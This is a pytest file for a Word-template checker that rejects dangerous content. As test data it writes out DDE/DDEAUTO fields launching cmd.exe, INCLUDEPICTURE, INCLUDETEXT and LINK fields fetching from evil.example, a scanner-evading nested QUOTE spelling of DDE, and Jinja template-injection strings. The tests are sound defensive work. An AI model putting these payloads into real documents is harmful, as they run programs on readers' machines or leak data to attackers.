"""Templates that try to run programs, fetch content or hide code where the check did not look (issue 19:4),
and the upload messages that name the place as Word shows it (issue 18:9)."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from docx import Document
from docx.oxml import parse_xml

from remiss.documents import RenderError, check_template, render_document, sample_context

from .conftest import W_NS, all_text, to_bytes


def field_runs(instruction: str, shown: str = "bild") -> list[str]:
    """A complex Word field as the runs Word writes: begin, instruction, separate, result, end."""
    return [f'<w:r {W_NS}><w:fldChar w:fldCharType="begin"/></w:r>',
            f'<w:r {W_NS}><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>',
            f'<w:r {W_NS}><w:fldChar w:fldCharType="separate"/></w:r>', shown,
            f'<w:r {W_NS}><w:fldChar w:fldCharType="end"/></w:r>']


def with_header(body: str, header: str) -> bytes:
    doc = Document()
    doc.sections[0].header.paragraphs[0].text = header
    doc.add_paragraph(body)
    return to_bytes(doc)


def rename_part(data: bytes, old: str, new: str) -> bytes:
    """Move word/<old> to word/<new>, fixing the relationship and the content type, as another producer may name it."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            if info.filename in ("[Content_Types].xml", "word/_rels/document.xml.rels"):
                content = content.replace(old.encode(), new.encode())
            dst.writestr(f"word/{new}" if info.filename == f"word/{old}" else info.filename, content)
    return out.getvalue()


@pytest.mark.parametrize("instruction, words", [
    ('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', "startar automatiskt ett annat program"),
    ('DDE "c:\\\\windows\\\\system32\\\\cmd.exe" "/c notepad"', "startar ett annat program"),
    ('INCLUDEPICTURE "\\\\\\\\evil.example\\\\share\\\\x.png" \\\\d', "hämtar en bild utanför dokumentet"),
    ('INCLUDEPICTURE "http://evil.example/pixel.png" \\\\* MERGEFORMATINET', "hämtar en bild utanför dokumentet"),
    ('INCLUDETEXT "http://evil.example/text.docx"', "hämtar text från en annan fil"),
    ('LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\data.xlsx" "Blad1!R1C1" \\\\a', "hämtar innehåll från en annan fil"),
])
def test_fields_that_run_or_fetch_are_refused_in_the_body(make_template, instruction, words):
    report = check_template("yttrande", make_template("{{ titel }}", ["Logga: ", *field_runs(instruction)]))
    assert not report.ok and report.preview is None
    assert any(words in e and "word/document.xml i stycket som börjar ”Logga: bild”" in e and "Ctrl+Skift+F9" in e
               for e in report.errors), report.errors


def test_dde_spelled_by_a_nested_quote_field_is_refused(make_template):
    """{ {QUOTE 68 68 69} "c:\\cmd.exe" } is how DDE hides from scanners that read the instruction's first word."""
    nested = [field_runs("QUOTE 68 68 69 65 85 84 79", "DDEAUTO")[i] for i in (0, 1, 2, 3, 4)]
    runs = [f'<w:r {W_NS}><w:fldChar w:fldCharType="begin"/></w:r>', *nested,
            f'<w:r {W_NS}><w:instrText xml:space="preserve"> c:\\\\windows\\\\cmd.exe "/k calc" </w:instrText></w:r>',
            f'<w:r {W_NS}><w:fldChar w:fldCharType="separate"/></w:r>', "x",
            f'<w:r {W_NS}><w:fldChar w:fldCharType="end"/></w:r>']
    report = check_template("yttrande", make_template("{{ titel }}", runs))
    assert not report.ok and any("får sitt namn från ett annat fält" in e for e in report.errors), report.errors


def test_simple_field_in_a_header_with_another_name_is_refused():
    data = with_header("{{ titel }}", "Dnr {{ diarienummer }}")
    doc = Document(io.BytesIO(data))
    header_p = doc.sections[0].header.paragraphs[0]._p
    header_p.append(parse_xml(f'<w:fldSimple {W_NS} w:instr=\' INCLUDEPICTURE "\\\\evil.example\\share\\x.png" \'>'
                              '<w:r><w:t>logga</w:t></w:r></w:fldSimple>'))
    data = rename_part(to_bytes(doc), "header1.xml", "kopf.xml")
    assert "word/kopf.xml" in zipfile.ZipFile(io.BytesIO(data)).namelist()
    report = check_template("yttrande", data)
    assert any("INCLUDEPICTURE" in e and "word/kopf.xml" in e for e in report.errors), report.errors


def test_placeholders_in_a_header_with_another_name_are_checked_and_suggested():
    data = rename_part(with_header("{{ titel }}", "Dnr {{ diarienr }}"), "header1.xml", "kopf.xml")
    report = check_template("yttrande", data)
    assert not report.ok
    assert report.errors == ["Okänd platshållare ”{{ diarienr }}” i sidhuvud 1, i stycket som börjar ”Dnr {{ "
                             "diarienr }}”. Den finns inte bland fälten för yttrandet. Menade du ”{{ diarienummer }}”?"]


def test_hostile_code_in_a_header_with_another_name_is_refused():
    data = rename_part(with_header("{{ titel }}", "{{ cycler.__init__.__globals__ }}"), "header1.xml", "kopf.xml")
    report = check_template("yttrande", data)
    assert not report.ok and any("interna attribut" in e and "sidhuvud 1" in e for e in report.errors)


@pytest.mark.parametrize("title, expected", [
    ("{{ ''.__class__.__mro__ }}", "interna attribut"),
    ("{{ hemligt }}", "Okänd platshållare ”{{ hemligt }}” i dokumentegenskapen ”Rubrik”"),
])
def test_placeholders_in_the_document_properties_are_checked(title, expected):
    doc = Document()
    doc.add_paragraph("{{ titel }}")
    doc.core_properties.title = title
    report = check_template("yttrande", to_bytes(doc))
    assert not report.ok and any(expected in e for e in report.errors), report.errors


def test_document_properties_never_keep_the_templates_text():
    doc = Document()
    doc.add_paragraph("{{ titel }}")
    doc.core_properties.title, doc.core_properties.comments = "{{ namnd }}", "intern kommentar"
    rendered = Document(io.BytesIO(render_document("yttrande", sample_context("yttrande"), to_bytes(doc))))
    assert rendered.core_properties.title == sample_context("yttrande")["titel"]
    assert rendered.core_properties.comments == ""


def test_unclosed_if_at_the_end_of_the_body_is_reported_in_the_body_not_the_header():
    doc = Document()
    doc.sections[0].header.paragraphs[0].text = "{{ namnd }}"
    doc.sections[0].footer.paragraphs[0].text = "{{ organisation }}"
    for text in ("{{ titel }}", "Sammanfattning", "{%p if sammanfattning %}", "{{ sammanfattning }}"):
        doc.add_paragraph(text)
    report = check_template("yttrande", to_bytes(doc))
    assert report.errors == ["Blocket ”{%p if sammanfattning %}” i brödtexten, i stycket som börjar ”{%p if "
                             "sammanfattning %}” avslutas aldrig i brödtexten. Lägg till ett eget stycke med "
                             "{%p endif %} där blocket ska sluta."]
    assert not any("inga platshållare" in w for w in report.warnings)


def test_richtext_tag_is_refused_with_the_fix(make_template):
    report = check_template("yttrande", make_template("{{r sammanfattning }}"))
    assert any("{{r sammanfattning }}" in e and "Skriv {{ … }} utan r" in e for e in report.errors), report.errors


def test_paragraph_field_printed_whole_passes_the_check_and_previews_paragraphs(make_template):
    report = check_template("yttrande", make_template("{{ titel }}", "{{ diarienummer }} {{ datum }}",
                                                      "{{ sammanfattning }}"))
    assert report.ok, report.errors
    assert "Det är synnerligen viktigt" in all_text(report.preview) and "['" not in all_text(report.preview)


def test_a_stored_template_with_dde_is_not_rendered(make_template):
    """A template accepted before the check knew DDE never reaches a remittent."""
    stored = make_template("{{ titel }}", field_runs('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))
    with pytest.raises(RenderError, match="DDEAUTO.*ny mall"):
        render_document("yttrande", sample_context("yttrande"), stored)


def test_a_header_declared_as_plain_xml_is_still_checked():
    """docxtpl renders a header by its relationship, so a content type that hides it must not hide it from the check."""
    data = rename_part(with_header("{{ titel }}", "{{ cycler.__init__ }}"), "header1.xml", "kopf.xml")
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        types = package.read("[Content_Types].xml").decode()
    hidden = re.sub(r'<Override PartName="/word/kopf.xml"[^>]*/>', "", types)
    assert hidden != types
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, hidden if info.filename == "[Content_Types].xml" else src.read(info.filename))
    report = check_template("yttrande", out.getvalue())
    assert any("interna attribut" in e and "sidhuvud 1" in e for e in report.errors), report.errors
